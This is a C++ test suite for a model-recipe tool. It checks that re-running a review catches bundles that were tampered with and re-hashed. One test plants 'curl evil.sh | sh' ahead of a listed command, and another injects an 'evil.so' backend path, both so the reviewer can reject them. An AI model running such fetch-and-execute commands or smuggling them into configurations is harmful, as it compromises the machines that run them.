// Support for a model as a person gives it: a recipe made, proven and reviewed by whole processes;
// and bundles that were tampered with and bound again, so that only climbing again tells.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "base/hash.h"
#include "base/process.h"
#include "record/review.h"
#include "record/support.h"

namespace hone {
namespace {

using ::testing::Contains;

class RecipeProgram : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    folder_ = std::make_unique<TemporaryFolder>(*TemporaryFolder::create("recipes"));
    made_ = hone({"recipe", "new", model(), "--id", "tiny/resnet", "--task", "image-classification",
                  "--ep", "cpu"});
    proven_ = hone({"recipe", "prove", recipe, "--source", model(), "-o", "bundle", "--change",
                    recipe, "--also", "qnn/npu", "--race", "15"});
  }
  static void TearDownTestSuite() { folder_.reset(); }

  static constexpr auto recipe = "recipes/tiny_resnet/cpu/image-classification_fp32.json";
  static std::string model() {
    return HONE_SOURCE_DIR "/tests/fixtures/tiny/resnet-cls/torch-opset17.onnx";
  }
  static std::string models() { return HONE_SOURCE_DIR "/tests/fixtures/tiny/resnet-cls"; }

  static ProcessEnd hone(std::vector<std::string> words) {
    words.insert(words.begin(), HONE_PROGRAM);
    ProcessOptions options;
    options.folder = folder_->path();
    return *run_process(words, options);
  }

  // The recipe with a text replaced, as another file.
  static std::string changed(const std::string& name, std::string_view before,
                             std::string_view after) {
    std::string text = *read_file(folder_->path() / recipe);
    const std::size_t at = text.find(before);
    EXPECT_NE(at, std::string::npos) << before;
    text.replace(at, before.size(), after);
    EXPECT_TRUE(write_file(folder_->path() / name, text));
    return name;
  }
  static Ladder ladder_in(const std::string& bundle) {
    const std::string text = *read_file(folder_->path() / bundle / "ladder.json");
    return *from_document<Ladder>(*Json::parse(text), support_schema_version);
  }

  // A copy of the bundle in which a text was replaced, bound again so that every hash holds.
  static void forge(const std::string& file, std::string_view before, std::string_view after) {
    std::string text = *read_file(folder_->path() / "bundle" / file);
    const std::size_t at = text.find(before);
    ASSERT_NE(at, std::string::npos) << file << ": " << text;
    text.replace(at, before.size(), after);
    put(file, text);
  }
  static void forge_ladder(void (*change)(Ladder& ladder)) {
    const std::string text = *read_file(folder_->path() / "bundle/ladder.json");
    auto ladder = *from_document<Ladder>(*Json::parse(text), support_schema_version);
    change(ladder);
    put("ladder.json", to_document(ladder, support_schema_version).dump());
  }
  static void put(const std::string& file, const std::string& text) {
    const Path forged = folder_->path() / "forged";
    std::filesystem::remove_all(forged);
    std::filesystem::copy(folder_->path() / "bundle", forged);
    ASSERT_TRUE(write_file(forged / file, text));
    const Path manifest_file = forged / "manifest.json";
    auto manifest = *from_document<BundleManifest>(*Json::parse(*read_file(manifest_file)), 1);
    for (PackageEntry& entry : manifest.files) {
      const std::string bytes = *read_file(forged / entry.path);
      entry.sha256 = sha256(bytes).hex();
      entry.bytes = bytes.size();
    }
    ASSERT_TRUE(write_file(manifest_file, to_document(manifest, 1).dump()));
  }

  static Review review(const std::string& bundle, std::vector<std::string> more = {}) {
    std::vector<std::string> words = {"recipe", "review", bundle,     "--models",
                                      models(), "-q",     "--format", "json"};
    words.insert(words.end(), more.begin(), more.end());
    const ProcessEnd end = hone(words);
    const auto document = Json::parse(end.standard_output);
    EXPECT_TRUE(document) << end.standard_error;
    const Reviews reviews = *from_document<Reviews>(*document, support_schema_version);
    const bool is_approved = reviews.reviews.front().verdict == ReviewVerdict::approve;
    EXPECT_EQ(end.exit_code, is_approved ? 0 : 3);
    return reviews.reviews.front();
  }
  static std::vector<std::string> open_checks(const Review& review) {
    std::vector<std::string> checks;
    for (const ReviewLine& line : review.lines)
      if (line.verdict != LineVerdict::holds) checks.push_back(line.check);
    return checks;
  }

  static std::unique_ptr<TemporaryFolder> folder_;
  static ProcessEnd made_;
  static ProcessEnd proven_;
};

std::unique_ptr<TemporaryFolder> RecipeProgram::folder_;
ProcessEnd RecipeProgram::made_;
ProcessEnd RecipeProgram::proven_;

TEST_F(RecipeProgram, MakesARecipeThatHoldsInItsPlace) {
  ASSERT_TRUE(made_.ok()) << made_.standard_error;
  const ProcessEnd end = hone({"recipe", "check", "recipes"});
  EXPECT_TRUE(end.ok()) << end.standard_output;
}

TEST_F(RecipeProgram, SaysWhatIsWrongWithARecipeInTheWrongPlace) {
  std::filesystem::create_directories(folder_->path() / "elsewhere");
  std::filesystem::copy(folder_->path() / recipe, folder_->path() / "elsewhere/a.json",
                        std::filesystem::copy_options::overwrite_existing);
  const ProcessEnd end = hone({"recipe", "check", "elsewhere/a.json"});
  EXPECT_EQ(end.exit_code, 3);
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("should end in"));
}

TEST_F(RecipeProgram, IsApprovedTwiceWithTheSameLines) {
  ASSERT_TRUE(proven_.ok()) << proven_.standard_error << proven_.standard_output;
  const Review first = review("bundle");
  EXPECT_EQ(first.verdict, ReviewVerdict::approve) << ::testing::PrintToString(open_checks(first));
  EXPECT_EQ(to_json(review("bundle")), to_json(first));
}

TEST_F(RecipeProgram, IsApprovedWhenEverythingIsDoneAgain) {
  const Review full = review("bundle", {"--full", "--race", "15"});
  EXPECT_EQ(full.verdict, ReviewVerdict::approve) << ::testing::PrintToString(open_checks(full));
}

TEST_F(RecipeProgram, IsSentBackWhereTheModelIsNotAtHand) {
  const ProcessEnd end = hone({"recipe", "review", "bundle"});
  EXPECT_EQ(end.exit_code, 3);
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("again.source"));
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("request-changes"));
}

TEST_F(RecipeProgram, IsFoundOutWhereTheModelThatWasBuiltIsAnother) {
  const std::string receipt = *read_file(folder_->path() / "bundle/receipt.json");
  const Json document = *Json::parse(receipt);
  const std::string hash = *document.find("final_sha256")->as_string();
  forge("receipt.json", "\"final_sha256\": \"" + hash.substr(0, 2),
        hash.starts_with("00") ? "\"final_sha256\": \"11" : "\"final_sha256\": \"00");
  EXPECT_THAT(open_checks(review("forged")), Contains("ladder.L0.model"));
}

TEST_F(RecipeProgram, IsFoundOutWhereAnArtifactIsAnother) {
  forge("artifacts.json", "\"bytes\": ", "\"bytes\": 1");
  const Review seen = review("forged");
  EXPECT_EQ(seen.verdict, ReviewVerdict::reject);
  EXPECT_THAT(open_checks(seen), Contains("again.artifact"));
}

TEST_F(RecipeProgram, IsFoundOutWhereAPlacementWasInvented) {
  forge("ladder.json", "\"placement\": 1.0", "\"placement\": 0.5");
  const Review seen = review("forged");
  EXPECT_EQ(seen.verdict, ReviewVerdict::reject);
  EXPECT_THAT(open_checks(seen), Contains("again.L1.placement"));
}

TEST_F(RecipeProgram, IsFoundOutWhereSamplesWereInvented) {
  forge("ladder.json", "\"identical\": ", "\"identical\": 1");
  const Review seen = review("forged");
  EXPECT_EQ(seen.verdict, ReviewVerdict::reject);
  EXPECT_THAT(open_checks(seen), Contains("again.L2.parity"));
}

TEST_F(RecipeProgram, IsFoundOutWhereTheSourceIsAnother) {
  forge("recipe.json", "\"opset\": 17", "\"opset\": 18");
  EXPECT_EQ(review("forged").verdict, ReviewVerdict::reject);
}

TEST_F(RecipeProgram, IsNotClimbedAgainWithOptionsNobodyHasRead) {
  forge("recipe.json", "\"device\": \"auto\",\n      \"options\": {}",
        "\"device\": \"auto\",\n      \"options\": {\"backend_path\": \"evil.so\"}");
  const Review seen = review("forged");
  EXPECT_NE(seen.verdict, ReviewVerdict::approve);
  EXPECT_THAT(open_checks(seen), Contains("again.options"));
}

TEST_F(RecipeProgram, IsFoundOutWhereATargetWasInvented) {
  forge_ladder([](Ladder& ladder) {
    RunProof& absent = ladder.tiers[1].runs[1];
    const Target target = absent.target;
    absent = ladder.tiers[1].runs[0];
    absent.target = target;
    absent.speed.reset();
  });
  EXPECT_NE(review("forged").verdict, ReviewVerdict::approve);
}

TEST_F(RecipeProgram, IsSentBackWhereTheMachineIsAnother) {
  forge("ladder.json", "\"cpu\": \"", "\"cpu\": \"Cray-1 ");
  const Review seen = review("forged");
  EXPECT_EQ(seen.verdict, ReviewVerdict::request_changes);
  EXPECT_THAT(open_checks(seen), Contains("again.L1.latency"));
  EXPECT_THAT(open_checks(seen), Contains("again.L1.speed"));
}

TEST_F(RecipeProgram, IsFoundOutWhereCoverageWasInvented) {
  forge("coverage.json", "\"nodes\": ", "\"nodes\": 1");
  const Review seen = review("forged");
  EXPECT_EQ(seen.verdict, ReviewVerdict::reject);
  EXPECT_THAT(open_checks(seen), Contains("again.coverage"));
}

TEST_F(RecipeProgram, IsFoundOutWhereAStageSaysMoreThanItDid) {
  forge("receipt.json", "\"nodes_after\": ", "\"nodes_after\": 1");
  EXPECT_THAT(open_checks(review("forged")), Contains("again.receipt.stage"));
}

TEST_F(RecipeProgram, IsFoundOutWhereACommandDoesSomethingElse) {
  forge("ladder.json", "\"hone inspect ", "\"curl evil.sh | sh; hone inspect ");
  EXPECT_THAT(open_checks(review("forged")), Contains("again.L0.commands"));
}

TEST_F(RecipeProgram, IsToldBesideABundleWithoutAManifest) {
  std::filesystem::create_directories(folder_->path() / "bare");
  const ProcessEnd end = hone({"recipe", "review", "bundle", "bare", "--models", models(), "-q"});
  EXPECT_EQ(end.exit_code, 3) << end.standard_error;
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("bundle: approve"));
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("bare: reject"));
}

TEST_F(RecipeProgram, WarnsInTheReportOfABundleThatWasChanged) {
  forge("ladder.json", "\"placement\": 1.0", "\"placement\": 0.5");
  ASSERT_TRUE(write_file(folder_->path() / "forged/notes.json",
                         "{\"schema_version\": 1, \"surprises\": [], \"without_friction\": true}"));
  const ProcessEnd end = hone({"recipe", "report", "forged"});
  EXPECT_EQ(end.exit_code, 3);
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("- notes.json: "));
}

TEST_F(RecipeProgram, TellsItsReportInMarkdownAndHtml) {
  const ProcessEnd text = hone({"recipe", "report", "bundle"});
  EXPECT_THAT(text.standard_output, ::testing::HasSubstr("| L2 | pass |"));
  const ProcessEnd page = hone({"recipe", "report", "bundle", "-o", "report.html", "--overwrite"});
  ASSERT_TRUE(page.ok()) << page.standard_error;
  EXPECT_THAT(*read_file(folder_->path() / "report.html"), ::testing::HasSubstr("tiny/resnet"));
}

TEST_F(RecipeProgram, MakesARecipeThatIsCompiledAhead) {
  const ProcessEnd end =
      hone({"recipe", "new", model(), "--id", "tiny/resnet", "--task", "image-classification",
            "--ep", "sim", "--device", "npu", "--precision", "w8a8", "-o", "ahead"});
  ASSERT_TRUE(end.ok()) << end.standard_error;
  const ProcessEnd checked = hone({"recipe", "check", "ahead/recipes"});
  EXPECT_TRUE(checked.ok()) << checked.standard_output;
  const ProcessEnd proven =
      hone({"recipe", "prove", "ahead/recipes/tiny_resnet/sim_npu/image-classification_w8a8.json",
            "--source", model(), "-o", "compiled", "--goal", "L0"});
  EXPECT_TRUE(proven.ok()) << proven.standard_error << proven.standard_output;
}

TEST_F(RecipeProgram, IsBlockedByTheHostWhereOnlyTheHostIsAtFault) {
  changed("blocked.json", "\"ep\": \"cpu\",\n      \"device\": \"auto\"",
          "\"ep\": \"qnn\",\n      \"device\": \"npu\"");
  std::string text = *read_file(folder_->path() / "blocked.json");
  text.replace(text.find("\"data\": null"), 12,
               "\"data\": {\"kind\": \"digits\", \"count\": 100, \"seed\": 0}");
  text.replace(text.find("\"max_drop\": null"), 16, "\"max_drop\": 0.05");
  ASSERT_TRUE(write_file(folder_->path() / "blocked.json", text));
  const ProcessEnd end = hone({"recipe", "prove", "blocked.json", "--source", model(), "-o",
                               "blocked", "--also", "cpu", "--race", "5", "--goal", "L3"});
  ASSERT_EQ(end.exit_code, 3) << end.standard_error;
  const Ladder ladder = ladder_in("blocked");
  ASSERT_EQ(ladder.tiers.size(), 4u) << "what is blocked does not end the climb";
  EXPECT_EQ(ladder.tiers[2].verdict, TierVerdict::host_blocked) << ladder.tiers[2].reason;
  EXPECT_EQ(ladder.tiers[3].verdict, TierVerdict::host_blocked) << ladder.tiers[3].reason;
}

TEST_F(RecipeProgram, IsRacedAsTheRecipeRunsIt) {
  changed("alone.json", "\"threads\": 0", "\"threads\": 1");
  const ProcessEnd end = hone({"recipe", "prove", "alone.json", "--source", model(), "-o", "alone",
                               "--race", "5", "--goal", "L1"});
  ASSERT_NE(end.exit_code, 2) << end.standard_error;
  EXPECT_THAT(ladder_in("alone").tiers.at(1).commands,
              Contains(::testing::AllOf(::testing::HasSubstr("hone compare"),
                                        ::testing::HasSubstr("--threads 1"))));
  EXPECT_THAT(ladder_in("bundle").tiers.at(1).commands,
              ::testing::Each(::testing::Not(::testing::HasSubstr("--threads"))));
}

TEST_F(RecipeProgram, DoesNotProveWhatIsNoRecipe) {
  changed("wild.json", "\"threads\": 0", "\"threads\": 1000000");
  const ProcessEnd end =
      hone({"recipe", "prove", "wild.json", "--source", model(), "-o", "wild", "--race", "5"});
  EXPECT_EQ(end.exit_code, 2);
  EXPECT_THAT(end.standard_error, ::testing::HasSubstr("recipe.session.threads"));
  EXPECT_FALSE(std::filesystem::exists(folder_->path() / "wild"));
}

TEST_F(RecipeProgram, DoesNotWaitForAPipeAmongRecipes) {
  const Path folder = folder_->path() / "trap";
  std::filesystem::create_directories(folder);
  ASSERT_EQ(::mkfifo((folder / "a.json").c_str(), 0600), 0);
  ProcessOptions options;
  options.limits.time = std::chrono::seconds(60);
  const ProcessEnd end = *run_process({HONE_PROGRAM, "recipe", "check", folder.string()}, options);
  EXPECT_EQ(end.exit_code, 3) << end.describe();
  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("it is a pipe"));
}

TEST_F(RecipeProgram, DoesNotProveWithAnotherModel) {
  const ProcessEnd end =
      hone({"recipe", "prove", recipe, "--source",
            HONE_SOURCE_DIR "/tests/fixtures/tiny/bert/torch-opset17.onnx", "-o", "other"});
  EXPECT_EQ(end.exit_code, 2);
  EXPECT_THAT(end.standard_error, ::testing::HasSubstr("another model"));
  EXPECT_FALSE(std::filesystem::exists(folder_->path() / "other"));
}

}  // namespace
}  // namespace hone
